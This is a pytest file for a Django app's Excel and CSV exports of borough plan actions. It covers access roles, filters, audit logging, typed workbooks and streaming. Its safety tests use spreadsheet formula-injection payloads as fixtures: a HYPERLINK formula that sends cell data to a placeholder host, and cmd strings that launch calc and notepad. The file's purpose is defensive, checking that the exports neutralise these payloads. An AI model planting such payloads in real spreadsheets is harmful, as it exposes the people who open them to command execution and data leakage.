"""Excel and CSV exports: scoped, filtered like the dashboards, typed, safe to open, streamed."""

import csv
import datetime as dt
import io
import logging
import re
import zipfile

import openpyxl
import pandas as pd
import pytest
from django.contrib.auth import get_user_model
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from plans.choices import RAG, STATUS_STYLE, Status, UpdateSource
from plans.models import Action, Objective, Owner, StatusUpdate
from plans.querysets import end_of_day
from plans.services import apply_status_update

XLSX = reverse("export-actions-xlsx")
CSV = reverse("export-actions-csv")
READERS = ["southwark_editor", "lambeth_editor", "oversight", "analyst", "administrator"]
INJECTIONS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A1",
    "@SUM(A1:A9)",
    "\t=1+1 tabbed",
    "\r=1+1 carriage",
]


def get_xlsx(client, query=""):
    response = client.get(XLSX + query)
    assert response.status_code == 200, response.content[:500]
    return b"".join(response.streaming_content)


def get_csv(client, query=""):
    response = client.get(CSV + query)
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def sheet_rows(data, name):
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    ws = workbook[name]
    rows = list(ws.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def exported_ids(client, query):
    return {row["Action ID"] for row in sheet_rows(get_xlsx(client, query), "Actions")}


# --- who may export --------------------------------------------------------------------------


@pytest.mark.parametrize("role", READERS)
def test_every_role_can_export_both_formats_as_attachments(client_as, role):
    client = client_as(role)
    for url, kind, ext in ((XLSX, "spreadsheetml", "xlsx"), (CSV, "text/csv", "csv")):
        response = client.get(url)
        assert response.status_code == 200
        assert response.streaming, "exports are streamed, never built as one string"
        assert kind in response["Content-Type"]
        assert response["X-Content-Type-Options"] == "nosniff"
        assert re.match(
            rf'attachment; filename="OFFICIAL-trustplan-actions-all-\d{{8}}-\d{{4}}\.{ext}"',
            response["Content-Disposition"],
        )


def test_a_user_without_a_role_cannot_export(world, client):
    user, _ = get_user_model().objects.get_or_create(username="no.role")  # no group, no membership
    client.force_login(user)
    assert client.get(XLSX).status_code == 403
    assert client.get(CSV).status_code == 403


def test_anonymous_is_sent_to_log_in(client):
    response = client.get(XLSX)
    assert response.status_code == 302
    assert "/accounts/login/" in response["Location"]


def test_invalid_filters_are_a_400_naming_the_filter(client_as):
    response = client_as("analyst").get(XLSX + "?rag=purple&borough=gotham")
    assert response.status_code == 400
    body = response.content.decode()
    assert "RAG:" in body and "Borough:" in body


def test_every_export_is_logged_with_who_filters_and_rows(client_as, caplog):
    with caplog.at_level(logging.INFO, logger="trustplan.security"):
        get_xlsx(client_as("analyst"), "?borough=lambeth&rag=red")
        get_csv(client_as("oversight"), "?borough=southwark")
    messages = [r.getMessage() for r in caplog.records if r.name == "trustplan.security"]
    xlsx = next(m for m in messages if "format=xlsx" in m)
    assert "user=analyst" in xlsx and "Borough=Lambeth" in xlsx and "RAG=Red" in xlsx
    assert re.search(r"Actions=\d+", xlsx) and re.search(r"Status history=\d+", xlsx)
    csv_line = next(m for m in messages if "format=csv" in m)
    assert "user=mopac.oversight" in csv_line and "Actions=61" in csv_line


# --- filters ---------------------------------------------------------------------------------


def _ids(qs):
    return set(qs.values_list("pk", flat=True))


def _stale_ids(now):
    ids = set()
    for action in Action.objects.select_related("objective__plan"):
        if action.is_stale(now=now):
            ids.add(action.pk)
    return ids


FILTER_CASES = {
    "borough": (
        "?borough=lambeth",
        lambda: _ids(Action.objects.filter(objective__plan__borough__slug="lambeth")),
    ),
    "bcu": (
        "?bcu=central-south",
        lambda: _ids(Action.objects.filter(objective__plan__borough__bcu__slug="central-south")),
    ),
    "pillar": (
        "?pillar=less-crime",
        lambda: _ids(Action.objects.filter(objective__pillar__slug="less-crime")),
    ),
    "driver": (
        "?driver=accountability",
        lambda: _ids(Action.objects.filter(drivers__slug="accountability")),
    ),
    "rag": (
        "?rag=red&rag=amber",
        lambda: _ids(Action.objects.filter(rag__in=["red", "amber"], completed=False)),
    ),
    "stale": ("?stale=true", lambda: _stale_ids(timezone.now())),
    "overdue": (
        "?overdue=true",
        lambda: _ids(Action.objects.filter(due_date__lt=timezone.localdate(), completed=False)),
    ),
}


@pytest.fixture
def aged(southwark_plan):
    """Some Southwark actions last reviewed two months ago, one of them due last month."""
    ids = list(
        Action.objects.filter(objective__plan=southwark_plan).order_by("pk").values_list("pk", flat=True)[:5]
    )
    Action.objects.filter(pk__in=ids).update(last_reviewed_at=timezone.now() - dt.timedelta(days=60))
    Action.objects.filter(pk=ids[0]).update(due_date=timezone.localdate() - dt.timedelta(days=30))
    return ids


@pytest.mark.parametrize("name", sorted(FILTER_CASES))
def test_export_honours_each_filter(client_as, aged, name):
    query, expected = FILTER_CASES[name]
    client = client_as("analyst")
    everything = exported_ids(client, "")
    wanted = expected()
    assert wanted, f"the world has no action for {query}: the test could not fail"
    assert wanted < everything
    assert exported_ids(client, query) == wanted
    assert {int(r["Action ID"]) for r in get_csv(client, query)} == wanted


def test_export_honours_the_objective_and_owner_filters(client_as, southwark_plan):
    client = client_as("oversight")
    objective = Objective.objects.filter(plan=southwark_plan).order_by("pillar__order", "number")[2]
    assert exported_ids(client, f"?objective={objective.pk}") == _ids(objective.actions.all())
    owner = Owner.objects.filter(borough__slug="southwark", actions__isnull=False).order_by("pk").first()
    assert exported_ids(client, f"?owner={owner.pk}") == _ids(owner.actions.all())
    assert 0 < len(_ids(owner.actions.all())) < 61


def test_export_as_at_a_date_rebuilds_status_and_history_from_the_updates(client_as, lambeth_plan):
    updates = StatusUpdate.objects.filter(action__objective__plan=lambeth_plan).order_by("created_at")
    first, last = updates.first().created_at, updates.last().created_at
    day = timezone.localdate(first + (last - first) / 2)
    cutoff = end_of_day(day)
    expected = {}
    for update in updates.filter(created_at__lt=cutoff).order_by("created_at", "version"):
        expected[update.action_id] = Status.COMPLETE if update.to_completed else Status(update.to_rag)
    data = get_xlsx(client_as("analyst"), f"?borough=lambeth&as_at={day:%Y-%m-%d}")
    actions = sheet_rows(data, "Actions")
    got = {r["Action ID"]: (Status.COMPLETE if r["Complete"] else r["RAG"]) for r in actions}
    want = {pk: (s if s == Status.COMPLETE else Status(s).label) for pk, s in expected.items()}
    assert got == want
    history = sheet_rows(data, "Status history")
    assert history and all(r["When"] < timezone.localtime(cutoff).replace(tzinfo=None) for r in history)
    assert len(history) == updates.filter(created_at__lt=cutoff).count() < updates.count()
    about = {r["Item"]: r["Value"] for r in sheet_rows(data, "About")}
    assert about["Status as at"] == f"end of {day:%Y-%m-%d}"


def test_the_export_command_takes_the_same_filters(world, tmp_path):
    out = tmp_path / "southwark-red.xlsx"
    call_command(
        "export_xlsx", "--out", str(out), "--borough", "southwark", "--rag", "red", stdout=io.StringIO()
    )
    rows = sheet_rows(out.read_bytes(), "Actions")
    assert (
        len(rows) == 4
        and {r["Borough"] for r in rows} == {"Southwark"}
        and {r["RAG"] for r in rows} == {"Red"}
    )
    assert (
        len(rows)
        == Action.objects.filter(
            objective__plan__borough__slug="southwark", rag="red", completed=False
        ).count()
    )
    about = {r["Item"]: r["Value"] for r in sheet_rows(out.read_bytes(), "About")}
    assert about["Generated by"] == "manage.py (administrator scope)"
    as_user = tmp_path / "as-user.xlsx"
    call_command(
        "export_xlsx",
        "--out",
        str(as_user),
        "--user",
        "lambeth.editor",
        "--stale",
        "true",
        stdout=io.StringIO(),
    )
    assert {r["Item"]: r["Value"] for r in sheet_rows(as_user.read_bytes(), "About")}[
        "Generated by"
    ] == "lambeth.editor"
    with pytest.raises(CommandError, match="rag"):
        call_command("export_xlsx", "--out", str(out), "--rag", "purple")
    with pytest.raises(CommandError, match="no role"):
        get_user_model().objects.create_user("nobody.here", password="x-unused-password-1")
        call_command("export_xlsx", "--out", str(out), "--user", "nobody.here")


# --- a typed, readable workbook ----------------------------------------------------------------


def test_the_workbook_reads_back_with_openpyxl_with_real_types_and_layout(client_as, southwark_plan):
    action = Action.objects.filter(objective__plan=southwark_plan).order_by("pk").first()
    Action.objects.filter(pk=action.pk).update(due_date=dt.date(2026, 3, 31))
    data = get_xlsx(client_as("analyst"), "?borough=southwark")
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == [
        "Summary",
        "Actions",
        "Status history",
        "Driver coverage",
        "Driver gaps",
        "Measures",
        "Force plan",
        "Milestones",
        "About",
    ]
    ws = workbook["Actions"]
    header = [c.value for c in ws[1]]
    assert header[:8] == ["Borough", "BCU", "Pillar", "Objective", "Action", "Owners", "Drivers", "RAG"]
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == f"A1:P{ws.max_row}"
    assert ws.column_dimensions["E"].width >= 50
    rows = {r[15].value: r for r in ws.iter_rows(min_row=2)}
    assert len(rows) == 61
    first = rows[action.pk]
    assert first[8].value == dt.datetime(2026, 3, 31) and first[8].number_format == "yyyy-mm-dd"
    assert first[9].value is False and isinstance(first[15].value, int)
    assert isinstance(first[12].value, dt.datetime)
    for row in rows.values():
        word, fill = row[7].value, row[7].fill.fgColor.rgb
        status = {s.label: s for s in Status}[word]
        assert fill[-6:].upper() == STATUS_STYLE[status]["bg"][1:].upper(), (
            "RAG cells are filled in their colour"
        )
    summary = workbook["Summary"]
    totals = {c.value: 0 for c in summary[1][2:7]}
    for row in summary.iter_rows(min_row=2, values_only=True):
        for label, count in zip(list(totals), row[2:7], strict=True):
            assert isinstance(count, int)
            totals[label] += count
    assert totals == {"Red": 4, "Amber": 17, "Green": 39, "Not rated": 1, "Complete": 0}


def test_the_workbook_reads_back_with_pandas_with_real_types(client_as):
    data = get_xlsx(client_as("oversight"), "?borough=lambeth&borough=southwark")
    sheets = pd.read_excel(io.BytesIO(data), sheet_name=None, engine="openpyxl")
    actions = sheets["Actions"]
    assert (
        len(actions)
        == Action.objects.filter(objective__plan__borough__slug__in=["lambeth", "southwark"]).count()
    )
    assert pd.api.types.is_bool_dtype(actions["Complete"]) and pd.api.types.is_bool_dtype(actions["Stale"])
    assert pd.api.types.is_integer_dtype(actions["Action ID"])
    assert pd.api.types.is_datetime64_any_dtype(actions["Last update"])
    history = sheets["Status history"]
    assert pd.api.types.is_datetime64_any_dtype(history["When"]) and pd.api.types.is_integer_dtype(
        history["Version"]
    )
    assert (
        len(history)
        == StatusUpdate.objects.filter(
            action__objective__plan__borough__slug__in=["lambeth", "southwark"]
        ).count()
    )
    summary = sheets["Summary"]
    assert pd.api.types.is_integer_dtype(summary["Total"]) and summary["Total"].sum() == len(actions)
    coverage = sheets["Driver coverage"].set_index("Borough")
    assert coverage.loc["Southwark", "Actions"] == 61
    assert pd.api.types.is_integer_dtype(coverage["Police accountability"])
    southwark_accountability = Action.objects.filter(
        objective__plan__borough__slug="southwark", drivers__slug="accountability"
    ).count()
    assert coverage.loc["Southwark", "Police accountability"] == southwark_accountability > 0


def test_every_status_history_row_is_its_update_with_its_actions_texts(client_as, southwark_editor):
    """Row by row against the database: the action's borough, pillar, objective and text (read
    once per action), the time in London local time on both sides of a clock change, and a
    retired action's history still written with its texts."""
    southwark = Action.objects.filter(objective__plan__borough__slug="southwark").order_by("pk")
    summer, winter, retired = southwark[0], southwark[1], southwark[2]
    bst = dt.datetime(2024, 7, 1, 8, 30, tzinfo=dt.UTC)  # 09:30 in London
    gmt = dt.datetime(2024, 12, 2, 8, 30, tzinfo=dt.UTC)  # 08:30 in London
    for action, at in ((summer, bst), (winter, gmt), (retired, gmt)):
        action.refresh_from_db()
        apply_status_update(
            action=action,
            user=southwark_editor,
            seen_version=action.version,
            rag=RAG.RED if action.rag != RAG.RED else RAG.AMBER,
            commentary="Reviewed at the monthly meeting with the ward panel.",
            at=at,
        )
    Action.objects.filter(pk=retired.pk).update(retired_at=timezone.now())
    rows = sheet_rows(get_xlsx(client_as("analyst"), "?borough=southwark"), "Status history")
    updates = StatusUpdate.objects.filter(action__objective__plan__borough__slug="southwark").select_related(
        "action__objective__pillar", "action__objective__plan__borough"
    )
    assert len(rows) == updates.count() > 60
    by_key = {(u.action_id, u.version): u for u in updates}
    for row in rows:
        update = by_key[(row["Action ID"], row["Version"])]
        objective = update.action.objective
        assert row["Borough"] == "Southwark"
        assert row["Pillar"] == objective.pillar.name
        assert row["Objective"] == f"{objective.number}. {objective.title}"
        assert row["Action"] == update.action.text
        local = timezone.localtime(update.created_at).replace(tzinfo=None)
        assert abs(row["When"] - local) < dt.timedelta(milliseconds=1)  # Excel keeps milliseconds
    written = {(row["Action ID"], row["When"]) for row in rows}
    assert (summer.pk, dt.datetime(2024, 7, 1, 9, 30)) in written
    assert (winter.pk, dt.datetime(2024, 12, 2, 8, 30)) in written
    assert (retired.pk, dt.datetime(2024, 12, 2, 8, 30)) in written


# --- safety ----------------------------------------------------------------------------------


@pytest.fixture
def poisoned(southwark_plan, southwark_editor):
    """Southwark actions carrying formula-like text and a control character, as a user might type."""
    actions = list(
        Action.objects.filter(objective__plan=southwark_plan).order_by("pk")[: len(INJECTIONS) + 1]
    )
    for action, text in zip(actions, INJECTIONS, strict=False):
        Action.objects.filter(pk=action.pk).update(text=text)
    bell = actions[-1]
    Action.objects.filter(pk=bell.pk).update(text="Bell\x07 and form feed\x0c inside")
    owner = Owner.objects.create(borough=southwark_plan.borough, key="team:evil", label="=cmd|' /C calc'!A0")
    actions[0].owners.add(owner)
    action = Action.objects.get(pk=actions[1].pk)
    apply_status_update(
        action=action,
        user=southwark_editor,
        seen_version=action.version,
        rag=RAG.RED,
        commentary="=1+2 and more words follow here",
        source=UpdateSource.PAGE,
    )
    return actions


def test_formula_injection_strings_are_written_as_text_never_formulas(client_as, poisoned):
    data = get_xlsx(client_as("analyst"), "?borough=southwark")
    archive = zipfile.ZipFile(io.BytesIO(data))
    xml = {name: archive.read(name).decode("utf-8") for name in archive.namelist() if name.endswith(".xml")}
    sheets = {n: x for n, x in xml.items() if n.startswith("xl/worksheets/sheet")}
    assert sheets and not any("<f>" in x or "<f " in x for x in sheets.values()), (
        "no formula element anywhere"
    )
    actions_xml = sheets["xl/worksheets/sheet2.xml"]
    for text in INJECTIONS[:4]:
        escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        assert re.search(r't="inlineStr"[^>]*><is><t[^>]*>' + re.escape(escaped) + "</t>", actions_xml) or (
            escaped in xml.get("xl/sharedStrings.xml", "")
        ), text
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    values = {c.value for row in workbook["Actions"].iter_rows() for c in row}
    for text in INJECTIONS:
        # a CR is stored as Excel's escape _x000D_ (openpyxl does not unescape it): still text
        assert text in values or text.replace("\r", "_x000D_") in values, f"{text!r} survives as text"
    cells = [c for row in workbook["Actions"].iter_rows() for c in row if isinstance(c.value, str)]
    risky = [c for c in cells if c.value.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert risky and all(c.data_type == "s" and c.quotePrefix for c in risky)
    assert "Bell and form feed inside" in values, "control characters are stripped"
    history = {c.value for row in workbook["Status history"].iter_rows() for c in row}
    assert "=1+2 and more words follow here" in history
    for text in INJECTIONS[:4]:  # the action texts repeat down the history as shared strings
        assert text in history or text.replace("\r", "_x000D_") in history, text
    cells = [c for row in workbook["Status history"].iter_rows() for c in row if isinstance(c.value, str)]
    risky = [c for c in cells if c.value.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert len(risky) >= 5 and all(c.data_type == "s" and c.quotePrefix for c in risky)


def test_csv_prefixes_formula_like_fields_with_an_apostrophe(client_as, poisoned):
    rows = get_csv(client_as("analyst"), "?borough=southwark")
    texts = {r["Action"] for r in rows}
    for text in INJECTIONS:
        assert "'" + text in texts
    assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for t in r.values())
    owners = {r["Owners"] for r in rows}
    assert any(o.startswith("'=cmd") or "; =cmd" in o for o in owners)
    assert "Bell and form feed inside" in texts


# --- fast and scoped -----------------------------------------------------------------------------


def test_the_number_of_queries_does_not_grow_with_the_data(client_as, django_assert_max_num_queries):
    from plans.synthetic import make_synthetic

    client = client_as("analyst")

    def count():
        with CaptureQueriesContext(connection) as ctx:
            get_xlsx(client)
        return len(ctx.captured_queries)

    before = count()
    make_synthetic(boroughs=4, months=4, seed=7, actions_per_plan=12)
    after = count()
    assert after == before
    # A fixed number per sheet, whatever the data: 36, + 4 for the Measures sheet (its boroughs,
    # measures, readings and targets).
    with django_assert_max_num_queries(40):
        get_xlsx(client)
    with django_assert_max_num_queries(12):
        get_csv(client)


AWKWARD_TEXTS = [
    "plain",
    "  leading and trailing spaces  ",
    "<tag> & \"quotes\" 'apostrophes'",
    "Bell\x07 form feed\x0c tab\t newline\n",
    "_x0041_ looks like an escape",
    "emoji 🚓 and accents: Southwark, Bromley–Croydon",
    "=SUM(A1:A2)",
    "",
]


def _book(worksheet_class, shared=False):
    import xlsxwriter

    target = io.BytesIO()
    book = xlsxwriter.Workbook(target, {"constant_memory": True, "strings_to_formulas": False})
    book.set_properties({"created": dt.datetime(2026, 1, 1)})
    if worksheet_class is not None:
        book.worksheet_class = worksheet_class
    bold, when = book.add_format({"bold": True}), book.add_format({"num_format": "yyyy-mm-dd hh:mm"})
    ws = book.add_worksheet("Status history")
    write = ws.write_shared_string if shared else ws.write_string
    for r in range(40):
        for c, text in enumerate(AWKWARD_TEXTS):
            write(r, c, text, bold if r % 3 == 0 else None)
        ws.write_number(r, 8, r * 1.5)
        ws.write_datetime(r, 9, dt.datetime(2026, 1, 1, 9, 30) + dt.timedelta(days=r), when)
        ws.write_string(r, 10, f"unique commentary {r} <b>")
    book.close()
    return target.getvalue()


def test_the_streaming_worksheet_writes_what_xlsxwriter_writes():
    from plans.exports import StreamingWorksheet

    ours, theirs = (
        zipfile.ZipFile(io.BytesIO(_book(StreamingWorksheet))),
        zipfile.ZipFile(io.BytesIO(_book(None))),
    )
    assert ours.namelist() == theirs.namelist()
    for name in ours.namelist():
        assert ours.read(name) == theirs.read(name), name


def test_shared_strings_in_a_streamed_sheet_read_back_as_the_same_cells():
    from plans.exports import StreamingWorksheet

    shared, plain = _book(StreamingWorksheet, shared=True), _book(None)
    xml = zipfile.ZipFile(io.BytesIO(shared)).read("xl/worksheets/sheet1.xml").decode()
    assert 't="s"' in xml and 't="inlineStr"' in xml  # repeated texts shared, commentary inline
    table = zipfile.ZipFile(io.BytesIO(shared)).read("xl/sharedStrings.xml").decode()
    assert table.count("<si>") == len(AWKWARD_TEXTS)  # each distinct text once, whatever the rows

    def cells(data):
        # openpyxl undoes Excel's escape of a literal "_x0041_" (as "_x005F_x0041_") in shared
        # strings but not in inline ones; Excel undoes both.
        def value(v):
            return v.replace("_x005F_", "_") if isinstance(v, str) else v

        book = openpyxl.load_workbook(io.BytesIO(data))
        return [[(value(c.value), c.font.b, c.number_format) for c in row] for row in book.active.iter_rows()]

    assert cells(shared) == cells(plain)


def test_past_its_bound_a_streamed_sheet_writes_new_texts_inline(monkeypatch):
    from plans.exports import StreamingWorksheet

    monkeypatch.setattr(StreamingWorksheet, "SHARE_AT_MOST", 3)
    data = _book(StreamingWorksheet, shared=True)
    archive = zipfile.ZipFile(io.BytesIO(data))
    assert archive.read("xl/sharedStrings.xml").decode().count("<si>") == 3
    book, plain = openpyxl.load_workbook(io.BytesIO(data)), openpyxl.load_workbook(io.BytesIO(_book(None)))
    assert [[c.value for c in row] for row in book.active.iter_rows()] == [
        [c.value for c in row] for row in plain.active.iter_rows()
    ]


@pytest.mark.parametrize("joins", ["a status update turns it Red", "an import adds it"])
def test_an_action_that_joins_the_export_while_it_is_written_is_written_whole(
    client_as, southwark_editor, administrator, barnet, monkeypatch, joins
):
    """The action texts are read before the history: an action that joins the exported set in
    between (a ``rag=red`` filter, an unfiltered export during an import) is read when its first
    update comes, not a failed export."""
    from plans.exports import history
    from plans.imports import import_plan
    from tests.test_import_plan import workbook

    green = (
        Action.objects.filter(objective__plan__borough__slug="southwark", rag=RAG.GREEN)
        .order_by("pk")
        .first()
    )
    original = history.raw_rows

    def racing(values_queryset):
        if joins.startswith("a status"):
            green.refresh_from_db()
            apply_status_update(
                action=green,
                user=southwark_editor,
                seen_version=green.version,
                rag=RAG.RED,
                commentary="Slipped at the monthly meeting: the ward panel did not meet.",
            )
        else:
            rows = [["More Trust", "1. Engage", "Ward panels in every ward", "Supt Brockway", "", "Green"]]
            assert import_plan(
                borough=barnet, workbook_file=workbook(rows), user=administrator, dry_run=False
            ).applied
        return original(values_queryset)

    monkeypatch.setattr(history, "raw_rows", racing)
    query = "?borough=southwark&rag=red" if joins.startswith("a status") else ""
    rows = sheet_rows(get_xlsx(client_as("analyst"), query), "Status history")
    joined = green if joins.startswith("a status") else Action.objects.get(text="Ward panels in every ward")
    written = [row for row in rows if row["Action ID"] == joined.pk]
    assert written and all(row["Action"] == joined.text for row in written)
